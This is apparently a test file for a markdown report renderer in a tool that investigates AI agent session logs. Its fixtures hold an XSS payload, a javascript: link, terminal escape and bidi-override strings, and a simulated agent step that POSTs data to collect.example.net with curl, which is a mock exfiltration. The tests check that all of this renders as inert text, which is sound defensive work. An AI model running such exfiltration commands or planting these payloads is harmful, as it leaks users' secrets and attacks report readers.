// report.md with a replay: the incident story sits at the top (after the title block) with each
// sentence's reference, the Sessions section lists the sessions with findings and the steps that
// carry them, and hostile text in any of it renders as text. Without a replay nothing changes.
import test from "ava";
import { renderMarkdown } from "../src/reports/report-markdown.js";
import type { ReplayData, SessionStep, SessionSummary } from "../src/replay/replay-types.js";
import { buildTestCase } from "./fixtures/reports/build-case.js";

const caseP = buildTestCase({ hostile: false });
test.after.always(async () => (await caseP).close());

const HOSTILE = "\u001b[31mRED\u001b[0m <img src=x onerror=alert(1)> [x](javascript:alert(1)) txt.\u202eexe \u009b2J";

function session(id: string, over: Partial<SessionSummary> = {}): SessionSummary {
  return {
    sessionId: id, user: "alice", host: "vm-alice", agentId: null, started: "2026-11-25T09:55:54.037Z", ended: "2026-11-25T09:56:11.037Z",
    steps: 6, toolCalls: 3, tools: ["web_fetch", "exec"], firstPrompt: "summarize", hasTranscript: true, blobs: 1, days: 1, worst: null, findings: 0, ...over,
  };
}

const execStep: SessionStep = {
  sessionId: "s-bad", stepNo: 5, time: "2026-11-25T09:56:07.537Z", kind: "tool", source: "transcript", runId: null, tool: "exec", callId: "c1",
  arguments: `{"command":"curl -s -X POST https://collect.example.net/u ${HOSTILE}"}`, status: "success", result: "ok", durationMs: 1500, decision: null, text: null,
  blob: "oclog/alice/t.jsonl", line: 3,
};

const replay: ReplayData = {
  sessions: [session("s-bad", { worst: "high", findings: 1 }), session("s-quiet"), session("s-other")],
  steps: { "s-bad": [execStep] },
  omittedSessions: 0,
  pins: [{ finding: 0, detectionId: "chain", title: `Session sent data out ${HOSTILE}`, severity: "high", row: 0, role: "evidence", sessionId: "s-bad", stepNo: 5, blob: "oclog/alice/t.jsonl", line: 3 }],
  story: {
    headline: `Key sent to collect.example.net ${HOSTILE}`,
    sentences: [
      { text: "The agent fetched a page.", ref: { sessionId: "s-bad", stepNo: 3 } },
      { text: "It ran curl.", ref: { blob: "oclog/alice/t.jsonl", line: 3 } },
    ],
    uncertain: [{ text: "No egress record links the POST.", ref: null }],
  },
  strips: [],
};

test("without a replay the report is what it was", async (t) => {
  const { data } = await caseP;
  const md = renderMarkdown(data);
  t.false(md.includes("## What happened"));
  t.false(md.includes("## Sessions"));
  t.is(renderMarkdown({ ...data, replay: undefined }), md);
});

test("the story comes first with its references, and Sessions lists the flagged sessions with their pinned steps", async (t) => {
  const { data } = await caseP;
  const md = renderMarkdown({ ...data, replay });
  const at = (s: string) => md.indexOf(s);
  t.true(at("# oclog investigation") < at("## What happened") && at("## What happened") < at("## Summary"));
  t.regex(md, /^- The agent fetched a page\. \(session s-bad step 3\)$/m);
  t.regex(md, /^- It ran curl\. \(oclog\/alice\/t\.jsonl:3\)$/m);
  t.regex(md, /What the records cannot settle:\n\n- No egress record links the POST\.$/m);
  t.true(at("## Findings") < at("## Sessions") && at("## Sessions") < at("## Quarantine"));
  t.regex(md, /1 session with findings, 2 more without/);
  t.regex(md, /### Session s-bad\n/);
  t.false(md.includes("### Session s-quiet"));
  t.regex(md, /- \*\*Step 5:\*\* exec \\\{"command":"curl -s -X POST https:\/\/collect\.example\.net\/u/);
  t.regex(md, /  - high: evidence of Session sent data out .*\(oclog\/alice\/t\.jsonl:3\)/);
});

test("hostile text in the story, steps and pins renders as text", async (t) => {
  const { data } = await caseP;
  const md = renderMarkdown({ ...data, replay });
  // eslint-disable-next-line no-control-regex
  t.false(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/.test(md), "no control or bidi characters");
  t.false(/(?<!\\)<img/.test(md), "markup escaped");
  t.false(/(?<!\\)\[[^\]]*(?<!\\)\]\(/.test(md), "no unescaped link");
  t.true(md.includes("\\<img src=x onerror=alert\\(1\\)\\>"));
});
